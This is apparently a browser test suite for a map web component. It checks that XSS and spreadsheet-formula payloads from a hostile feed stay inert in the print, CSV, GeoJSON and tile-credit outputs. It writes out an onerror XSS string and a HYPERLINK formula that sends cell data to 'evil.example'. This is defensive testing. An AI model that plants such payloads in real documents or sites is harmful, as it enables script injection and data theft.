import { expect } from '@open-wc/testing';
import { decodeFeed } from '../../../src/feed/index.ts';
import { hearConsole, type Heard } from '../../support/console.ts';
import { planted } from '../../support/harm.ts';
import { hostileFeed } from '../../support/hostile-map.ts';
import { smallFeed } from '../../support/map-feed.ts';
import { all, clearPage, drawn, hasStatus, mountMap, rows } from '../../support/map-page.ts';
import { downloaded, openTools, printed } from '../../support/map-tools.ts';
import { serveFeed } from '../../support/serve-feed.ts';
import { serveTiles } from '../../support/serve-tiles.ts';
import { until } from '../../support/until.ts';
import { onWidePage } from '../../support/wide-page.ts';
import { FORMULA_PAYLOADS, TEXT_PAYLOADS, URL_PAYLOADS } from '../../support/xss-payloads.ts';

const ALL = [...TEXT_PAYLOADS, ...URL_PAYLOADS, ...FORMULA_PAYLOADS];

/** The cells of a table as RFC 4180 reads them. */
function readCsv(csv: string): string[][] {
  const cells = csv.replace(/^\ufeff/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g);
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of cells) {
    lines.at(-1)!.push(quoted === undefined ? plain! : quoted.replaceAll('""', '"'));
    if (end !== ',') lines.push([]);
  }
  return lines.slice(0, -1);
}

describe('sanctuary-map: published attacks on what is taken away', () => {
  onWidePage();
  let heard: Heard;
  let harmed = 0;
  before(() => Object.assign(window, { harm: () => harmed++ }));
  after(() => Reflect.deleteProperty(window, 'harm'));
  beforeEach(() => {
    heard = hearConsole();
    harmed = 0;
  });
  afterEach(async () => {
    heard.stop();
    expect(harmed, 'scripts that ran').to.equal(0);
    await clearPage();
  });

  it('print as they were written, on the sheet', async () => {
    const map = await openTools({}, hostileFeed(ALL));
    const sheet = await printed(map, 'Print map and list');
    expect(planted(sheet.querySelector('body')!)).to.deep.equal([]);
    expect(sheet.querySelectorAll('ol > li')).to.have.length(2 * ALL.length);
    expect(sheet.textContent).to.contain('<img src=x onerror=harm()>');
    expect(sheet.querySelectorAll('a, [href]')).to.have.length(0);
  });

  it('are cells of one column, and no formula, in the table', async () => {
    const map = await openTools({}, hostileFeed(ALL));
    const lines = readCsv(await (await downloaded(map, 'Download as a table (CSV)')).text());
    const [head, ...rest] = lines;
    expect(rest).to.have.length(2 * ALL.length);
    for (const line of rest) {
      expect(line, line.join()).to.have.length(head!.length);
      for (const [i, cell] of line.entries()) {
        // a number is told from a formula by being nothing else
        if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
        expect(cell, head![i]).to.not.match(/^[=+\-@\t\r\n＝＋－＠]/);
      }
    }
    expect(rest.flat()).to.include('\'=HYPERLINK("https://evil.example/?x="&A1,"Read more")');
  });

  it('are strings of valid GeoJSON, and read as what they were', async () => {
    const map = await openTools({}, hostileFeed(ALL));
    const text = await (await downloaded(map, 'Download for a map (GeoJSON)')).text();
    const { data } = await decodeFeed(JSON.parse(text), 'https://elsewhere.example/a.geojson');
    const { groups = [], places = [] } = data.collections;
    expect(groups.length + places.length).to.equal(2 * ALL.length);
    for (const { url } of [...groups, ...places]) expect(url ?? 'https:').to.match(/^(https?|mailto|tel):/);
  });

  it('are words in the credit of tiles, and no link that is not http', async () => {
    const server = await serveTiles();
    const { url } = await serveFeed(smallFeed());
    for (const attack of [...TEXT_PAYLOADS, ...URL_PAYLOADS]) {
      const map = mountMap({
        feed: url,
        tiles: '',
        'tile-url': server.template,
        'tile-attribution': `${attack} [${attack}](${attack}) [Makers](${attack})`,
        'tiles-consent': 'given',
        narrow: 'map',
      });
      await hasStatus(map, 'ready');
      await until(() => all(map, '.tile-bar.is-shown').length > 0, `no tiles: ${attack}`);
      expect(planted(all(map, '.tile-bar')[0]!), attack).to.deep.equal([]);
      for (const link of all<HTMLAnchorElement>(map, '.tile-bar a'))
        expect(link.protocol, attack).to.match(/^https?:$/);
      map.remove();
    }
  });

  it('as the address of tiles show none, and the map goes on', async () => {
    const { url } = await serveFeed(smallFeed());
    for (const attack of URL_PAYLOADS) {
      const map = mountMap({
        feed: url,
        tiles: '',
        'tile-url': `${attack}/{z}/{x}/{y}`,
        'tile-attribution': '',
        narrow: 'map',
      });
      await drawn(map);
      expect(rows(map), attack).to.have.length(7);
      expect(planted(map.shadowRoot!), attack).to.deep.equal([]);
      map.remove();
    }
  });
});
